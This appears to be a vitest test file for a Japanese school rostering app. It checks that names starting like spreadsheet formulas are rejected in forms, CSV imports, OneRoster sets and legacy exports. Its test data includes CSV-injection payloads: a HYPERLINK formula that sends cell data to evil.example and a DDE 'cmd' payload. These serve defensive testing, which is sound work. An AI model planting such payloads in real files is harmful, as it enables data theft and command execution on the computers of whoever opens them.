/**
 * A name that starts like a spreadsheet formula (=, +, -, @, tab, carriage return) would reach the
 * OneRoster export raw and run when a manager opens users.csv in Excel. Every path a name enters
 * by refuses it, saying why: the forms' actions, the students CSV, a OneRoster set, a legacy export.
 */
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

vi.mock("next/headers", () => import("../../../tests/support/next-headers-fake"));
vi.mock("next/cache", () => ({ revalidatePath: () => undefined }));

import { db } from "@/platform/db";
import { readLegacyExport } from "@/features/rostering/shared/legacy-format";
import { readRosterPackage } from "@/features/rostering/server/oneroster-read";
import { addTeacherAction, createSchoolAction } from "@/features/people/server/school-actions";
import { addStudentAction } from "@/features/people/server/actions";
import { checkCsv } from "@/features/people/shared/csv";
import { createAcademy, createSchool, createUser, uniqueTag } from "../../../prisma/seed/factories";
import { editFile, loadFixture, where } from "../../../tests/support/oneroster-fixture";
import { session, sessionCookieOf } from "../../../tests/support/next-headers-fake";

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"出席簿")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
];
const ids = { school: "", academy: "", teacher: "", manager: "" };

beforeAll(async () => {
  const tag = uniqueTag();
  ids.academy = (await createAcademy(db(), { name: `F${tag}`, nameKana: "えふ" })).id;
  ids.school = (await createSchool(db(), { academyId: ids.academy, name: `F${tag}`, nameKana: "えふ" })).id;
  ids.teacher = (
    await createUser(db(), { role: "teacher", email: `t-${tag}@formula.example`, name: "先生", schoolId: ids.school })
  ).id;
  ids.manager = (
    await createUser(db(), {
      role: "manager",
      email: `m-${tag}@formula.example`,
      name: "管理者",
      academyId: ids.academy,
    })
  ).id;
});
afterAll(async () => {
  await db().$disconnect();
});

describe("names that are formulas are refused wherever names enter", () => {
  it.each(FORMULAS)("the add-student and add-teacher forms refuse the name %s and add nobody", async (name) => {
    session.cookie = await sessionCookieOf(ids.teacher, "teacher");
    expect(await addStudentAction({ name, grade: 1, className: "1", number: 9 })).toEqual({
      ok: false,
      code: "VALIDATION",
      fieldErrors: { name: ["formula"] },
    });
    expect(await addStudentAction({ name: "山田 花子", nickname: name, grade: 1, className: "1", number: 9 })).toEqual({
      ok: false,
      code: "VALIDATION",
      fieldErrors: { nickname: ["formula"] },
    });
    session.cookie = await sessionCookieOf(ids.manager, "manager");
    const teacher = await addTeacherAction({
      schoolId: ids.school,
      name,
      nameKana: "",
      email: `x-${uniqueTag()}@formula.example`,
    });
    expect(teacher).toEqual({ ok: false, code: "VALIDATION", fieldErrors: { name: ["formula"] } });
    expect(await createSchoolAction({ name, nameKana: "" })).toEqual({
      ok: false,
      code: "VALIDATION",
      fieldErrors: { name: ["formula"] },
    });
    expect(await db().user.count({ where: { OR: [{ name }, { nickname: name }] } })).toBe(0);
    expect(await db().school.count({ where: { name } })).toBe(0);
  });

  it("the students CSV import marks each formula name, reading or nickname as such, and nothing of those rows is imported", () => {
    const csv = [
      "学年,組,番号,氏名,ふりがな,ニックネーム",
      ...FORMULAS.map((f, i) => `1,1,${i + 1},"${f.replaceAll('"', '""')}",,`),
      '1,2,1,"\t=1+1",,', // a leading tab is trimmed: what is left still starts with =
      "1,2,2,山田 花子,,=1+1",
      "1,2,3,山田 太郎,やまだ たろう,",
    ].join("\r\n");
    const check = checkCsv(new TextEncoder().encode(csv));
    expect(check.ok).toBe(true);
    if (!check.ok) return;
    expect(check.rows.map((r) => [r.line, r.errors])).toEqual([
      ...FORMULAS.map((_, i) => [i + 2, ["formulaName"]]),
      [7, ["formulaName"]],
      [8, ["formulaName"]],
      [9, []],
    ]);
    expect(check.rows.slice(0, -1).every((r) => r.input === null)).toBe(true);
  });

  it("a OneRoster set with a formula in a name, reading or title is refused at its file, line and column", async () => {
    const files = editFile(
      editFile(loadFixture("bulk-jhs"), "users.csv", (text) =>
        text
          .replace('"花子","山田"', '"=HYPERLINK(""http://evil.example"")","山田"')
          .replace('"ハナコ","ヤマダ"', '"ハナコ","@SUM(A1)"'),
      ),
      "classes.csv",
      (text) => text.replace('"1年1組"', '"+1年1組"'),
    );
    const read = await readRosterPackage(files);
    expect(read.set).toBeNull();
    const formulas = read.problems.filter((p) => p.code === "fieldFormula");
    expect(where(formulas).sort()).toEqual([
      "fieldFormula classes.csv:2 title",
      "fieldFormula users.csv:3 givenName",
      "fieldFormula users.csv:3 metadata.jp.kanaFamilyName",
    ]);
    expect(formulas.find((p) => p.column === "givenName")!.message).toContain("users.csv の 3 行目「givenName」");
    expect(formulas[0]!.message).toContain("式として動くため受け付けません");
  });

  it("a legacy export with a formula in a profile's name or nickname, or a school's name or reading, is refused at the document", () => {
    const read = readLegacyExport({
      users: {
        u1: { email: "a@legacy.example", groupId: "s1", groupType: "school", role: "student" },
        u2: { email: "b@legacy.example", groupId: "s1", groupType: "school", role: "teacher" },
      },
      schools: {
        s1: {
          name: "=1+1",
          nameKana: "+ひがし",
          students: { u1: { email: "a@legacy.example", name: "@SUM(A1)", nickName: "はな" } },
          teachers: { u2: { email: "b@legacy.example", name: "先生 一郎", nickName: "-1" } },
        },
      },
    });
    expect(read.ok).toBe(false);
    if (read.ok) return;
    expect(read.problems.map((p) => `${p.path} ${p.message.split(" ")[0]}`)).toEqual([
      "schools/s1 name",
      "schools/s1 nameKana",
      "schools/s1/students/u1 name",
      "schools/s1/teachers/u2 nickName",
    ]);
    for (const p of read.problems) expect(p.message).toContain("a spreadsheet would run it as a formula");
  });
});
